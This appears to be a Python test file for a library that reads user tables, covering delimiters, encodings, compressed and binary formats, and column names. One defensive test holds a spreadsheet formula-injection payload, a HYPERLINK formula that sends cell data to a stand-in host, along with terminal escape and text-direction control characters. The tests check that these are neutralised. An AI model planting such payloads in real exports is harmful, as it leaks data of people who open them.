"""Formats of a user's table, and the names of its columns."""

import bz2
import csv
import gzip
import io
import lzma
from dataclasses import replace

import numpy as np
import pandas as pd
import pytest
from cases import each, some
from hostile_files import GOOD, npz, parquet
from own_tables import iris_csv, iris_table, lines, read, read_sniffed, sniff
from sklearn.datasets import dump_svmlight_file

from dsgcore.data import DataError
from dsgcore.data.reading import File, Recipe, Source

# --- the format


@each("encoding", some(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"], 3))
@each("delimiter, decimal", [(",", "."), (";", ","), ("\t", "."), ("\t", ","), ("|", "."), (" ", ".")])
@each("header", [True, False])
def test_a_text_is_read_whatever_separates_its_cells(delimiter, decimal, encoding, header):
    content = iris_csv(delimiter, decimal, encoding, header)
    if delimiter == " ":
        content = content.decode(encoding).replace('"', "").replace("l l", "l_l").replace("l w", "l_w").encode(encoding)
    dataset = read_sniffed(content)
    X, _ = iris_table()
    np.testing.assert_array_equal(dataset.X, X.astype(np.float32))
    assert dataset.class_names == ("setosa", "versicolor", "virginica")
    assert np.bincount(dataset.y).tolist() == [50, 50, 50]
    assert len(dataset.sha256) == 64


@each("encoding", ["utf-8", "utf-8-sig", "utf-16"])
@each("said, delimiter, decimal", [("sep=;", ";", ","), ('"sep=,"', ",", "."), ("SEP=|", "|", ".")])
@each("header", [True, False])
def test_a_first_line_that_names_the_delimiter_is_no_row(said, delimiter, decimal, encoding, header):
    plain = iris_csv(delimiter, decimal, header=header)
    content = (f"{said}\r\n".encode() + plain).decode().encode(encoding)
    found, expected = read_sniffed(content), read_sniffed(plain)
    np.testing.assert_array_equal(found.X, expected.X)
    np.testing.assert_array_equal(found.y, expected.y)
    with pytest.raises(DataError, match=f"line {3 + header} has 3 cells, and the first has 2"):
        read_sniffed(lines(said, *["a;b"] * header, "1;2", "3;4;5"), delimiter=";", header=header)


def test_all_formats_give_the_same_points():
    X, y = iris_table()
    codes = np.unique(y, return_inverse=True)[1]
    frame = pd.DataFrame(X, columns=["a", "b", "c", "d"])
    svmlight = io.BytesIO()
    dump_svmlight_file(X, codes, svmlight, zero_based=False)
    files = {
        "a.csv": iris_csv(),
        "a.parquet": parquet(frame=frame.assign(species=y)),
        "a.libsvm": svmlight.getvalue(),
        "a.npz": npz(X=X, y=y, split=np.zeros(150), about=np.zeros(3), letters=np.array(["a"] * 150)),
    }
    for name, content in files.items():
        for packed in (content, gzip.compress(content), bz2.compress(content), lzma.compress(content)):
            dataset = read_sniffed(packed, name)
            np.testing.assert_array_equal(dataset.X, X.astype(np.float32), err_msg=name)
            np.testing.assert_array_equal(dataset.y, codes, err_msg=name)
            assert dataset.X.dtype == np.float32
            assert dataset.X.flags.c_contiguous


def test_a_packed_file_of_several_streams_is_read_to_its_end():
    whole = read_sniffed(GOOD)
    for pack in (gzip.compress, bz2.compress, lzma.compress):
        np.testing.assert_array_equal(read_sniffed(pack(GOOD[:100]) + pack(GOOD[100:])).X, whole.X)


def test_the_format_is_told_from_the_bytes_not_from_the_name():
    assert sniff(parquet(), "data.csv").format == "parquet"
    assert sniff(GOOD, "data.parquet").format == "delimited"
    assert sniff(b"1 1:2\n2 2:1\n", "data.csv").format == "svmlight"


@each("limit", [1, 50, 6])
def test_sparse_text_keeps_its_columns(limit):
    content = b"# first\n1 qid:3 2:0.5 6:1 # a comment\n\n-1 1:2\n" * limit
    dataset = read_sniffed(content, "a.svm")
    np.testing.assert_array_equal(dataset.X[:2], [[0, 0.5, 0, 0, 0, 1], [2, 0, 0, 0, 0, 0]])
    zero_based = read_sniffed(b"1 0:1 2:3\n2 1:1\n", "a.svm")
    np.testing.assert_array_equal(zero_based.X, [[1, 0, 3], [0, 1, 0]])


def test_what_was_sniffed_can_be_set_otherwise():
    content = lines("1;2,5;a", "2;3,5;b", "3;4,5;a", "4;5,5;b")
    recipe = sniff(content, "a.csv")
    assert (recipe.delimiter, recipe.decimal, recipe.header) == (";", ",", False)
    recipe = Recipe(delimiter=";", decimal=",", header=True, roles=(("a", "label"),))
    assert read(content, recipe, labels="classes").X.shape == (3, 2)


def test_a_wrong_encoding_is_told_and_another_can_be_given():
    content = lines("größe,label", *(f"{i},{'ja' if i % 2 else 'nein'}" for i in range(20)), encoding="cp1252")
    recipe = sniff(content, "a.csv")
    assert recipe.encoding == "cp1252"
    assert read(content, recipe).feature_names == ("größe",)
    with pytest.raises(DataError, match=r"line 1 .* not utf-8"):
        read(content, replace(recipe, encoding="utf-8"))


def test_quotes_hold_delimiters_and_line_ends():
    content = lines('"a","b, c",label', '1,"2",x', '"3","4","y\nz"', "5,6,x", '7,"8",x')
    dataset = read_sniffed(content)
    np.testing.assert_array_equal(dataset.X, [[1, 2], [3, 4], [5, 6], [7, 8]])
    assert dataset.feature_names == ("a", "b, c")
    assert dataset.class_names == ("x", "y z")


# --- names


def test_repeated_and_missing_names_are_told():
    content = lines("a,a,,label", *(f"{i},{i % 3},{i % 5},{'xy'[i % 2]}" for i in range(20)))
    dataset = read_sniffed(content)
    assert dataset.feature_names == ("a", "a (2)", "column 3")
    assert any("same name" in sentence for sentence in dataset.report)
    assert any("no name" in sentence for sentence in dataset.report)


@each("names", [["x", "text", "list", "label"], ["x", "x", "list", "label"], ["x", "y", "x", "label"]])
def test_a_table_with_lists_is_read_whole_whatever_its_row_groups_and_names(names):
    pa, pq = pytest.importorskip("pyarrow"), pytest.importorskip("pyarrow.parquet")
    columns = [np.arange(40.0), [f"word {i % 7}" for i in range(40)], [[i] for i in range(40)], np.arange(40) % 2]
    content = io.BytesIO()
    pq.write_table(pa.table([pa.array(column) for column in columns], names=names), content, row_group_size=10)
    recipe = Recipe(format="parquet")
    frame = File(Source.of_bytes(content.getvalue(), "a.parquet")).table(recipe).frame
    np.testing.assert_array_equal(frame.iloc[:, 0], columns[0])
    assert [list(frame.iloc[:, 1]), list(frame.iloc[:, 3])] == [columns[1], list(columns[3])]
    assert (frame.iloc[:, 2] == "(nested)").all()


FORMULA = '=HYPERLINK("http://x/?"&A1)'


def test_formulas_are_text_and_cannot_be_exported_as_formulas():
    rows = [["=1+1", "@cmd", "-x", "label"]] + [
        [FORMULA if i % 2 else "+2", i, -i, "=A1" if i % 2 else "-1"] for i in range(20)
    ]
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    content = text.getvalue().encode()
    recipe = sniff(content, "a.csv")
    assert dict(recipe.roles) == {"=1+1": "category", "label": "label"}
    dataset = read(content, recipe)
    names = (*dataset.feature_names, *dataset.class_names)
    assert "'=1+1: 2" in names or "'=1+1: +2" in names
    assert not any(name.startswith(("=", "+", "@")) for name in names)
    assert dataset.class_names == ("-1", "'=A1")  # a number is one
    head = File(Source.of_bytes(content, "a.csv")).table(recipe).head()
    cells = [*map(str, head.columns), *head.to_numpy().ravel()]
    assert not any(cell.startswith(("=", "@", "-x")) for cell in cells)


def test_control_characters_never_reach_a_page():
    bell = "y\x07"
    content = lines('"a\x1b[2J\u202e\nb",label', *(f"{i},{['x', bell][i % 2]}" for i in range(20)))
    dataset = read_sniffed(content)
    assert all(name.isprintable() for name in (*dataset.feature_names, *dataset.class_names, *dataset.report))
